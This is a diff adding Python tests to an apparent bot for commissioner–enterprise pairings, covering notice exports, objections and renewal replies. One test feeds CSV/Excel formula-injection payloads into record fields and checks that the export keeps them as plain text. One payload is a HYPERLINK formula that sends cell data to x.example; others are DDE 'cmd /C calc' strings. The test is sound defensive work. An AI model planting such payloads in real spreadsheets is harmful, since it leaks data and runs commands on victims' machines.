@@ -329,6 +329,28 @@ async def test_notice_list_export_for_admins_only(people, database_url, monkeypa
     assert load_workbook(tmp_path / "notice.xlsx").active["C2"].value == "孙悦"
 
 
+async def test_notice_export_writes_formula_like_text_as_text(people) -> None:
+    """What an enterprise typed (or an import brought) never runs as a formula in the export."""
+    h = people
+    pairing = await choose_each_other(h, SUN, TAIFENG)
+    typed = {"field": "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "expected_help": "+1+cmd|' /C calc'!A0",
+             "enterprise": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    async with h.sessionmaker() as session:
+        need = await session.get(Need, pairing.need_id)
+        need.field, need.expected_help = typed["field"], typed["expected_help"]
+        need.enterprise.name = typed["enterprise"]
+        await session.commit()
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
+    walk = Walk(h, PINGDING)
+    await walk.send("/notice")
+    await walk.press("📥 导出公示名单")
+    [document] = [r for r in walk.seen if type(r).__name__ == "SendDocument"]
+    row = load_workbook(_bytes_of(document)).active[2]
+    for cell, value in ((row[5], typed["enterprise"]), (row[7], typed["field"]), (row[8], typed["expected_help"])):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
+
+
 def _bytes_of(document):  # noqa: ANN001, ANN202
     from io import BytesIO
 
@@ -375,3 +397,57 @@ async def test_renewal_offered_thirty_days_before_the_end(people, clock, policy)
     assert "不再续签" in texts(h.session.requests)[-1]
     assert len(await rows(h, Agreement, Agreement.start_date == date(2027, 2, 1))) == 0
     assert "华鑫" in li_ming_offer
+
+
+async def test_one_objection_per_person_per_pairing(people) -> None:
+    h = people
+    await choose_each_other(h, LI_QIANG, TAIFENG)
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("✅ 确认结对")
+    walk = Walk(h, SUN)
+    await walk.send("/notice")
+    await walk.press("✋ 提出异议")
+    await h.send(SUN, "申报材料中的服务经历与事实不符，请核实。")
+    await h.drain()
+    await inbox(h, BUREAU_ADMIN).press("↩️ 异议不成立")
+    [pairing] = await rows(h, Pairing)
+    assert pairing.status == "notice"
+    # The same person cannot hold the pairing again, neither from the button nor from a kept draft.
+    again = await walk.press("✋ 提出异议")
+    assert "只能提出一次" in alerts(again)[0] and texts(again) == []
+    await h.dp.storage.set_state(h.state_key(SUN), "ObjectionForm:reason")
+    await h.dp.storage.set_data(h.state_key(SUN), {"pairing": pairing.id})
+    assert "只能提出一次" in (await h.send(SUN, "再次提出异议：服务经历与事实不符。"))[0]
+    assert len(await rows(h, Objection)) == 1
+    [pairing] = await rows(h, Pairing)
+    assert pairing.status == "notice"
+    # Someone else still may.
+    other = Walk(h, LI_MING)
+    await other.send("/notice")
+    await other.press("✋ 提出异议")
+    assert "已提交" in (await h.send(LI_MING, "该特派员与企业负责人存在亲属关系。"))[0]
+    assert len(await rows(h, Objection)) == 2
+
+
+async def test_a_renewal_decline_is_stored_and_told_once(people, clock, policy) -> None:
+    h = people
+    clock.set(datetime(2026, 12, 1, 10, 0, tzinfo=SHANGHAI))
+    await tick(h, clock, policy)
+    await h.drain()
+    zhang = inbox(h, ZHANG)
+    huaxin = next(r for r in reversed(zhang.seen) if "阳泉华鑫" in (getattr(r, "text", "") or "")
+                  and "即将到期" in r.text)
+    decline = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "不再续签" in b.text)
+    renew = next(b.callback_data for row in huaxin.reply_markup.inline_keyboard for b in row if "同意续签" in b.text)
+    mark = len(h.session.requests)
+    await h.press(ZHANG, decline)
+    assert "已经答复过" in alerts(await h.press(ZHANG, decline))[0]
+    assert "已经答复过" in alerts(await h.press(ZHANG, renew))[0]
+    await h.drain()
+    assert len([text for text in received(h, LI_MING, mark) if "不再续签" in text]) == 1
+    [agreement] = await rows(h, Agreement, Agreement.end_date == date(2026, 12, 31),
+                             Agreement.renew_commissioner_declined_at.is_not(None))
+    assert agreement.renew_commissioner_at is None
+    assert [e.action for e in await rows(h, AuditEntry, AuditEntry.action.startswith("agreement.renewal"))] \
+        == ["agreement.renewal_no"]
+
